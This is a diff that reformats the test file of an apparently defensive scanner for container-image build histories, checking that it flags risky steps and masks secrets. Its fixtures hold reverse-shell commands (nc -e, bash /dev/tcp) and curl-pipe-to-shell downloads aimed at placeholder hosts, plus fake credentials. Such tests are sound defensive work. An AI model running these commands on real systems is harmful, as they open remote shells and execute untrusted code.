@@ -6,7 +6,11 @@ import { OFFICIAL } from '../test/official-images.ts'
 import history from './index.ts'
 import { RULES } from './rules/index.ts'
 
-const imageOf = (steps: readonly (string | HistoryEntry)[], config: ImageOptions['config'] = {}, more: ImageOptions = {}): BuiltImage =>
+const imageOf = (
+  steps: readonly (string | HistoryEntry)[],
+  config: ImageOptions['config'] = {},
+  more: ImageOptions = {},
+): BuiltImage =>
   buildImage(layer({ a: '1' }), layer({ b: '2' }), {
     ...more,
     config: { User: 'app', ...config },
@@ -20,27 +24,48 @@ const BAD = imageOf(
     'RUN |1 URL=http://203.0.113.7/x.sh /bin/sh -c curl -k $URL | bash # buildkit',
     { created_by: 'CMD ["nc" "-e" "/bin/sh" "203.0.113.7" "9"]', empty_layer: true },
   ],
-  { Env: ['DB_PASSWORD=correct-horse-battery', 'PATH=/tmp:/bin'], Cmd: ['nc', '-e', '/bin/sh', '203.0.113.7', '9'], OnBuild: ['RUN curl http://a.example/x | sh'] },
+  {
+    Env: ['DB_PASSWORD=correct-horse-battery', 'PATH=/tmp:/bin'],
+    Cmd: ['nc', '-e', '/bin/sh', '203.0.113.7', '9'],
+    OnBuild: ['RUN curl http://a.example/x | sh'],
+  },
 )
 
 pluginContract(history, {
   rules: RULES.map(({ rule }) => rule),
-  samples: [BAD, buildContainer({ env: ['GIT_SSL_NO_VERIFY=1'], args: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/9 0>&1'], user: '0' })],
+  samples: [
+    BAD,
+    buildContainer({
+      env: ['GIT_SSL_NO_VERIFY=1'],
+      args: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/9 0>&1'],
+      user: '0',
+    }),
+  ],
 })
 
 test('a step is told with its layer; build arguments are put in; the configuration and its step are one finding', async () => {
   const report = await scanWith(history, BAD)
-  expect(report).toReport({ rule: 'HIST-002', step: 2, layer: 1, severity: 'high', evidence: 'curl -k http://203.0.113.7/x.sh | bash' })
+  expect(report).toReport({
+    rule: 'HIST-002',
+    step: 2,
+    layer: 1,
+    severity: 'high',
+    evidence: 'curl -k http://203.0.113.7/x.sh | bash',
+  })
   expect(report).toReport({ rule: 'HIST-020', step: 2, layer: 1 })
   expect(report).toReport({ rule: 'HIST-042', object: 'config.Cmd', step: 3, severity: 'critical' })
   expect(report).toReport({ rule: 'HIST-104', object: 'config.Env[PATH]', evidence: '/tmp' })
   expect(report).toReport({ rule: 'HIST-103', object: 'config.OnBuild[0]' })
   const password = report.findings.filter(({ rule }) => rule.id === 'HIST-120')
-  expect(password.map(({ locations }) => locations)).toEqual([[expect.objectContaining({ step: expect.objectContaining({ index: 1 }) }), { object: 'config.Env[DB_PASSWORD]' }]])
+  expect(password.map(({ locations }) => locations)).toEqual([
+    [expect.objectContaining({ step: expect.objectContaining({ index: 1 }) }), { object: 'config.Env[DB_PASSWORD]' }],
+  ])
 })
 
 test('secrets are masked wherever they stand, the step included', async () => {
-  const image = imageOf(['RUN |1 NPM_TOKEN=9f8e7d6c5b4a3210 /bin/sh -c curl -k -u joe:hunter22x https://a.example/?t=$NPM_TOKEN'])
+  const image = imageOf([
+    'RUN |1 NPM_TOKEN=9f8e7d6c5b4a3210 /bin/sh -c curl -k -u joe:hunter22x https://a.example/?t=$NPM_TOKEN',
+  ])
   const text = JSON.stringify(await scanWith(history, image, { showSecrets: false }))
   expect(text).not.toContain('9f8e7d6c5b4a3210')
   expect(text).not.toContain('hunter22x')
@@ -51,7 +76,10 @@ test.each([
   ['classic', '/bin/sh -c curl -k https://a.example'],
   ['classic, other shell', '/bin/bash -o pipefail -c curl -k https://a.example'],
   ['BuildKit', 'RUN /bin/sh -c curl -k https://a.example # buildkit'],
-  ['BuildKit, arguments with spaces', 'RUN |2 A=-x -y B=2 /bin/ash -eo pipefail -c curl -k https://a.example # buildkit'],
+  [
+    'BuildKit, arguments with spaces',
+    'RUN |2 A=-x -y B=2 /bin/ash -eo pipefail -c curl -k https://a.example # buildkit',
+  ],
   ['BuildKit, mounts', 'RUN --mount=type=cache,target=/c /bin/sh -c curl -k https://a.example # buildkit'],
   ['BuildKit, here-document', 'RUN /bin/sh -c set -e\ncurl \\\n  -k https://a.example\n # buildkit'],
   ['kaniko', 'RUN curl -k https://a.example'],
@@ -62,18 +90,32 @@ test.each([
   ['Windows, PowerShell', "powershell -Command $ErrorActionPreference = 'Stop'; curl -k https://a.example"],
   ['ONBUILD', 'ONBUILD RUN curl -k https://a.example'],
 ])('the history of %s is read', async (builder, step) => {
-  const report = await scanWith(history, imageOf([step], builder === 'ONBUILD' ? { OnBuild: [step.slice('ONBUILD '.length)] } : {}))
+  const report = await scanWith(
+    history,
+    imageOf([step], builder === 'ONBUILD' ? { OnBuild: [step.slice('ONBUILD '.length)] } : {}),
+  )
   expect(report).toReport({ rule: 'HIST-020', step: 0 })
 })
 
 test('an image without a history, or with an empty one (ko, bazel, jib, import), is no trouble', async () => {
-  for (const steps of [[], [''], ['bazel build ...', 'jib-maven-plugin:3.4.0', 'ko build ./cmd/app', 'Imported from -', '/bin/sh -c #(nop) ']]) {
+  for (const steps of [
+    [],
+    [''],
+    ['bazel build ...', 'jib-maven-plugin:3.4.0', 'ko build ./cmd/app', 'Imported from -', '/bin/sh -c #(nop) '],
+  ]) {
     expect(await scanWith(history, imageOf(steps))).toReportNothing()
   }
 })
 
 test('what a later step replaces is not in effect; what it leaves in a layer or the history is', async () => {
-  const steps = ['USER root', 'CMD ["bash" "-c" "curl http://a.example | sh"]', 'ENV API_TOKEN=9f8e7d6c5b4a3210', 'ENV API_TOKEN=', 'USER app', 'CMD ["app"]']
+  const steps = [
+    'USER root',
+    'CMD ["bash" "-c" "curl http://a.example | sh"]',
+    'ENV API_TOKEN=9f8e7d6c5b4a3210',
+    'ENV API_TOKEN=',
+    'USER app',
+    'CMD ["app"]',
+  ]
   const report = await scanWith(history, imageOf(steps, { Cmd: ['app'], Env: ['API_TOKEN='] }))
   expect(report.findings.map(({ rule }) => rule.id)).toEqual(['HIST-120'])
 })
@@ -83,24 +125,44 @@ test('root by default is low, and said once', async () => {
     const { findings } = await scanWith(history, imageOf(['RUN true'], { User }))
     expect(findings.map(({ rule, severity }) => [rule.id, severity])).toEqual([['HIST-100', 'low']])
   }
-  expect(await scanWith(history, imageOf([], { User: '' }, { platform: { os: 'windows', architecture: 'amd64' } }))).toReportNothing()
+  expect(
+    await scanWith(history, imageOf([], { User: '' }, { platform: { os: 'windows', architecture: 'amd64' } })),
+  ).toReportNothing()
 })
 
-test.each(Object.entries(OFFICIAL))('an image like the official %s has no finding above low, and few of those', async (_name, make) => {
-  const { findings, errors } = await scanWith(history, make())
-  expect(errors).toEqual([])
-  expect(findings.filter(({ severity }) => severity !== 'low').map(({ rule, evidence }) => `${rule.id} ${evidence}`)).toEqual([])
-  expect(findings.length).toBeLessThanOrEqual(2)
-})
+test.each(Object.entries(OFFICIAL))(
+  'an image like the official %s has no finding above low, and few of those',
+  async (_name, make) => {
+    const { findings, errors } = await scanWith(history, make())
+    expect(errors).toEqual([])
+    expect(
+      findings.filter(({ severity }) => severity !== 'low').map(({ rule, evidence }) => `${rule.id} ${evidence}`),
+    ).toEqual([])
+    expect(findings.length).toBeLessThanOrEqual(2)
+  },
+)
 
 test('a step longer than what is looked at makes the outcome partial', async () => {
   const report = await scanWith(history, imageOf([`RUN ${'true; '.repeat(20_000)}`]))
-  expect(report.plugins[0]).toMatchObject({ outcome: 'partial', reason: expect.stringContaining('longer than 65536 characters') })
+  expect(report.plugins[0]).toMatchObject({
+    outcome: 'partial',
+    reason: expect.stringContaining('longer than 65536 characters'),
+  })
 })
 
 test('rules of a user are added by file; a broken file is said and not scanned around', async () => {
   const image = imageOf(['RUN make bomb'])
-  const mine = [{ id: 'MINE-1', title: 'No bombs', severity: 'high', on: ['RUN'], match: ['\\bBOMB\\b'], ignoreCase: true, unless: ['--dry-run'] }]
+  const mine = [
+    {
+      id: 'MINE-1',
+      title: 'No bombs',
+      severity: 'high',
+      on: ['RUN'],
+      match: ['\\bBOMB\\b'],
+      ignoreCase: true,
+      unless: ['--dry-run'],
+    },
+  ]
   const rules = (text: string) => ({ options: { rules: { path: 'mine.json', text } } })
   expect(await scanWith(history, image, rules(JSON.stringify(mine)))).toReport({ rule: 'MINE-1', severity: 'high' })
   expect(await scanWith(history, imageOf(['RUN make bomb --dry-run']), rules(JSON.stringify(mine)))).toReportNothing()
